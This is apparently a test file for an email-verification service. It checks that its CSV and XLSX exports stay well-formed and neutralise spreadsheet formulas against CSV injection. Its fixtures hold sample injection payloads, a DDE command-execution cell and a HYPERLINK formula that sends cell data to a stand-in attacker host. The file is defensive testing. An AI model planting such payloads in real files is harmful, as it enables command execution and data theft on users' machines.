import t from 'tap'
import { spawn } from 'node:child_process'
import { readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import JSZip from 'jszip'
import { client, signUp } from '../support/service.ts'
import { npmStartNodeFlags, startSvc, svcEnv } from '../support/processes.ts'
import { parseRfc4180 } from '../support/rfc4180.ts'

// Every CSV we write parses back, with a strict RFC 4180 reader, to exactly the records
// that went in, and carries no formula (issue 42, item 6): the batch results as text/csv,
// a kept list merged with its results (GET /api/batches/{uuid}/source), and
// `svc verify-file --out`. The hostile cells: a CRLF file's quoted field holding a bare LF
// followed by a formula, quotes, delimiters, and text (addresses, customer cells, our own
// `did_you_mean`) that starts with = + - @, a tab or a CR. The oracles: the records the test
// wrote (read back by its own strict reader), the API's JSON results, OWASP's "CSV
// Injection" rule as docs/security.md states it (a leading ' and quotes, plain numbers left
// alone), and the XLSX sheet's own XML. Local checks only: no mail world, no fixed address.
const dataDir = t.testdir()
// The service as `npm start` runs it.
const service = await startSvc(t, ['serve'], svcEnv(dataDir), npmStartNodeFlags())
const api = client(service.url)
const token = await signUp(api, dataDir, 'spreadsheets@example.com')
const key = (
  await api('POST', '/api/keys', { token, body: { name: 'csv', environment: 'live', scopes: ['email:verify:bulk', 'results:read', 'billing:read'] } })
).body.raw_key as string
const CHECKS = ['syntax', 'typo']

/** The rule, restated: text a spreadsheet would run (= + - @ tab CR leading, not a plain number) gets a ' and quotes. */
const neutralised = (cell: string): string => (/^[=+\-@\t\r]/.test(cell) && !/^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$/.test(cell) ? `'${cell}` : cell)
/** A record as RFC 4180 writes it (every field quoted: the form that holds anything). */
const crlfRecord = (cells: string[]): string => cells.map(c => `"${c.replaceAll('"', '""')}"`).join(',')

/** A completed batch of `emails`, local checks only. */
async function batchOf(emails: string[]): Promise<string> {
  const r = await api('POST', '/api/batches', { token: key, body: { emails, checks: CHECKS, final: true } })
  if (r.status !== 202) throw new Error(`POST /api/batches: ${r.status} ${JSON.stringify(r.body)}`)
  const done = await api('GET', `/api/batches/${r.body.uuid}?wait=30`, { token: key })
  if (done.body.status !== 'completed') throw new Error(`the batch did not complete: ${JSON.stringify(done.body)}`)
  return r.body.uuid as string
}
const get = async (path: string): Promise<{ status: number; type: string | null; text: string }> => {
  const r = await fetch(`${service.url}${path}`, { headers: { authorization: `Bearer ${key}`, accept: 'text/csv' } })
  return { status: r.status, type: r.headers.get('content-type'), text: await r.text() }
}

t.test('the results as text/csv: RFC 4180 with CRLF, addresses and our suggestions neutralised; formula_escape=false gives them as they are', async t => {
  const emails = [
    '=cmd@gmial.com',
    '+tag@gmial.com',
    '-dash@hotmial.com',
    '@lead@example.com',
    'plain@example.com',
    'a,b "quoted"@example.com',
    'line\nbreak@example.com',
    'carriage\rreturn@example.com',
    '\tx@example.com'
  ]
  const uuid = await batchOf(emails)
  const json = await api('GET', `/api/batches/${uuid}/results?limit=96`, { token: key })
  const items = json.body.items as Array<Record<string, any>>
  t.equal(items.length, json.body.total, 'every result on one page')
  t.ok(
    items.some(i => typeof i.did_you_mean === 'string' && i.did_you_mean.startsWith('=')),
    'our own did_you_mean starts with = for one of them (positive control)'
  )
  // The result vocabulary's flags, each a column of its own (the list's file with its results has the same).
  const FLAGS = ['free', 'role', 'disposable', 'accept_all', 'mailbox_full', 'possible_typo']
  const raw = (i: Record<string, any>): string[] =>
    [
      i.index + 1,
      i.email,
      i.normalized,
      i.status,
      i.verdict,
      i.reason,
      i.score,
      ...FLAGS.map(f => (i.status === 'done' ? i.flags.includes(f) : '')),
      i.did_you_mean,
      i.mx_host,
      i.smtp_provider,
      i.checked_at
    ].map(v => (v === null || v === undefined ? '' : String(v)))
  const header = ['position', 'email', 'normalized', 'status', 'verdict', 'reason', 'score', ...FLAGS, 'did_you_mean', 'mx_host', 'smtp_provider', 'checked_at']

  const csv = await get(`/api/batches/${uuid}/results`)
  t.equal(csv.status, 200)
  t.match(csv.type, /^text\/csv/)
  let records: string[][] = []
  t.doesNotThrow(() => {
    records = parseRfc4180(csv.text, { recordDelimiter: '\r\n' })
  }, 'a strict RFC 4180 reader reads it')
  t.equal(records.length, items.length + 1, `${items.length} results and the header: no row split by a line break in a field`)
  t.same(records, [header, ...items.map(i => raw(i).map(neutralised))], "each record is the API's result, formula-like text neutralised")
  t.ok(
    records.slice(1).some(r => r[1] === "'=cmd@gmial.com" && r[2] === "'=cmd@gmial.com") && records.slice(1).some(r => r[13].startsWith("'=")),
    'an address (as sent and as asked) and a suggestion starting with = carry the leading quote'
  )
  t.ok(csv.text.includes(`"'=cmd@gmial.com"`), 'and are quoted')

  const plain = await get(`/api/batches/${uuid}/results?formula_escape=false`)
  t.same(parseRfc4180(plain.text, { recordDelimiter: '\r\n' }), [header, ...items.map(raw)], 'formula_escape=false: exactly the values, still RFC 4180')
  t.equal((await get(`/api/batches/${uuid}/results?formula_escape=maybe`)).status, 400, 'anything but true or false is a 400')
})

/** The customer's list: a CRLF CSV whose cells hold a bare LF before a formula, quotes, delimiters and formula-like text. */
const LIST = [
  ['name', 'email', 'note'],
  ['Ann', 'ann@example.com', "first line\n=cmd|' /C calc'!A0"],
  ['=HYPERLINK("http://attacker.example/?"&A1,"click")', 'bob@example.com', 'a,b'],
  ['Quote "q"', '+carl@example.com', '-5'],
  ['@SUM(1+1)', 'dee@example.com', '\ttabbed'],
  ['-2+3', '=eve@example.com', '+33 1 23 45 67 89'],
  ['Fay', 'fay@example.com', 'cr\rinside']
]
const LIST_FILE = Buffer.from(`${LIST.map(crlfRecord).join('\r\n')}\r\n`)
const ADDRESSES = LIST.slice(1).map(r => r[1])

t.test('the list written by the test is itself RFC 4180 (the oracle reads what went in)', async t => {
  t.same(parseRfc4180(LIST_FILE.toString('utf8')), LIST)
})

t.test('a kept CRLF list merged with its results: the same records, formulas neutralised, results beside them', async t => {
  const uuid = await batchOf(ADDRESSES)
  const put = await fetch(`${service.url}/api/batches/${uuid}/source?name=crm.csv`, {
    method: 'PUT',
    headers: { authorization: `Bearer ${key}`, 'content-type': 'text/csv' },
    body: new Uint8Array(LIST_FILE)
  })
  t.equal(put.status, 201, 'kept')
  const items = (await api('GET', `/api/batches/${uuid}/results?limit=96`, { token: key })).body.items as Array<Record<string, any>>
  const byAddress = new Map(items.map(i => [i.email as string, i]))
  for (const [query, expected, label] of [
    ['', neutralised, 'by default'],
    ['?formula_escape=false', (c: string) => c, 'formula_escape=false']
  ] as const) {
    const merged = await get(`/api/batches/${uuid}/source${query}`)
    t.equal(merged.status, 200)
    let records: string[][] = []
    t.doesNotThrow(() => {
      records = parseRfc4180(merged.text, { recordDelimiter: '\r\n' })
    }, `${label}: a strict RFC 4180 reader reads it (CRLF, as the list)`)
    t.equal(records.length, LIST.length, `${label}: ${LIST.length} records in, ${LIST.length} out`)
    t.same(
      records.map(r => r.slice(0, 3)),
      LIST.map(r => r.map(expected)),
      `${label}: the customer's cells, ${label === 'by default' ? 'formula-like ones neutralised' : 'exactly as they were'}`
    )
    const head = records[0]
    const col = (name: string): number => head.indexOf(name)
    t.ok(col('verdict') > 2 && col('did_you_mean') > 2, 'the result columns follow')
    for (const r of records.slice(1)) {
      const result = byAddress.get(r[1].replace(/^'/, ''))
      t.equal(r[col('verdict')], result?.verdict, `${label}: ${JSON.stringify(r[1])} carries its verdict from the API`)
    }
  }
})

/** `svc verify-file` in a process of its own, against the service. */
async function verifyFile(args: string[]): Promise<{ code: number | null; stderr: string }> {
  const child = spawn(process.execPath, [new URL('../../src/cli.ts', import.meta.url).pathname, 'verify-file', ...args, '--checks', CHECKS.join(',')], {
    env: { ...process.env, SVC_API_URL: service.url, SVC_API_KEY: key },
    stdio: ['ignore', 'ignore', 'pipe']
  })
  let stderr = ''
  child.stderr!.on('data', (b: Buffer) => {
    stderr += b.toString()
  })
  return await new Promise(resolve => child.once('exit', code => resolve({ code, stderr })))
}

t.test('svc verify-file --out: the same records, formulas neutralised unless --no-formula-escape; XLSX keeps them as text cells', async t => {
  const input = join(dataDir, 'crm.csv')
  writeFileSync(input, LIST_FILE)
  for (const [flags, expected, label] of [
    [[], neutralised, 'by default'],
    [['--no-formula-escape'], (c: string) => c, '--no-formula-escape']
  ] as const) {
    const out = join(dataDir, `out-${flags.length}.csv`)
    const run = await verifyFile([input, '--out', out, '--force', ...flags])
    t.equal(run.code, 0, run.stderr.slice(-500))
    let records: string[][] = []
    t.doesNotThrow(() => {
      records = parseRfc4180(readFileSync(out, 'utf8'), { recordDelimiter: '\r\n' })
    }, `${label}: a strict RFC 4180 reader reads it`)
    t.equal(records.length, LIST.length, `${label}: ${LIST.length} records in, ${LIST.length} out`)
    t.same(
      records.map(r => r.slice(0, 3)),
      LIST.map(r => r.map(expected)),
      `${label}: the customer's cells`
    )
    t.ok(
      records.slice(1).every(r => r[records[0].indexOf('row_status')] === 'verified'),
      `${label}: every row verified`
    )
  }

  const xlsx = join(dataDir, 'out.xlsx')
  const run = await verifyFile([input, '--out', xlsx, '--force'])
  t.equal(run.code, 0, run.stderr.slice(-500))
  const zip = await JSZip.loadAsync(readFileSync(xlsx))
  const sheets = Object.keys(zip.files).filter(n => /^xl\/worksheets\/sheet\d+\.xml$/.test(n))
  t.equal(sheets.length, 1)
  const xml = await zip.file(sheets[0])!.async('string')
  t.ok(xml.includes('=HYPERLINK(') && xml.includes('=eve@example.com'), 'the formula-like cells are in the sheet (positive control)')
  t.notOk(/<f[\s>]/.test(xml), 'no cell of the sheet is a formula (no <f> element: ECMA-376 §18.3.1.40)')
  t.ok(/<c [^>]*><v>=HYPERLINK\(/.test(xml.replaceAll('&quot;', '"')), "the HYPERLINK cell holds its text as the cell's value, never as a formula")
  t.ok(!xml.includes("'=HYPERLINK"), 'and XLSX text is not prefixed: a string cell is text already')
})
